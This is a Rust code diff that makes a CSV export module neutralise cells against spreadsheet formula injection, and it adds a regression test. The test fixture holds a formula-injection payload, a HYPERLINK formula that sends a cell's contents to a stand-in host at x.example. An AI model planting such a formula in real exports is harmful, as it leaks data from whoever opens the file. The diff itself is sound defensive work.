@@ -4,6 +4,7 @@
 
 use app::actions::{ActionOrigin, ActionRollupView};
 use app::checklists::{RollupView, UnitState};
+use app::domain::spreadsheet_cell::neutralise;
 use app::domain::{ActionSource, ActionStatus, Effect};
 use rust_xlsxwriter::{Format, Workbook, XlsxError};
 
@@ -207,7 +208,8 @@ pub fn xlsx(tables: &[Table]) -> Result<Vec<u8>, XlsxError> {
     book.save_to_buffer()
 }
 
-/// The first table as CSV for Swedish Excel: `;`-separated, UTF-8 with a byte order mark.
+/// The first table as CSV for Swedish Excel: `;`-separated, UTF-8 with a byte order mark, every
+/// cell neutralised against formulas (`domain::spreadsheet_cell`). Every CSV is written here.
 pub fn csv(table: &Table) -> Result<Vec<u8>, csv::Error> {
     let mut out = "\u{feff}".as_bytes().to_vec();
     {
@@ -216,7 +218,8 @@ pub fn csv(table: &Table) -> Result<Vec<u8>, csv::Error> {
             .from_writer(&mut out);
         writer.write_record(&table.headers)?;
         for row in &table.rows {
-            writer.write_record(row)?;
+            // Nothing a person typed may run as a formula in the spreadsheet that opens this.
+            writer.write_record(row.iter().map(|cell| neutralise(cell).into_owned()))?;
         }
         writer.flush()?;
     }
@@ -241,6 +244,24 @@ mod tests {
         assert_eq!(
             text,
             "\u{feff}Enhet;Analys\nHemtjänst Norr;\"Tas upp; på APT\"\n"
+        );
+    }
+
+    #[test]
+    fn a_cell_that_would_run_as_a_formula_is_written_as_text() {
+        let evil = Table {
+            name: "Åtgärder",
+            headers: vec!["Åtgärd", "Ansvarig"],
+            rows: vec![vec![
+                "=HYPERLINK(\"http://x.example/?\"&A1,\"klicka\")".into(),
+                "@SUM(A1)".into(),
+            ]],
+        };
+        let text = String::from_utf8(csv(&evil).unwrap()).unwrap();
+        let row = text.lines().nth(1).unwrap();
+        assert_eq!(
+            row,
+            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klicka\"\")\";'@SUM(A1)"
         );
     }
 
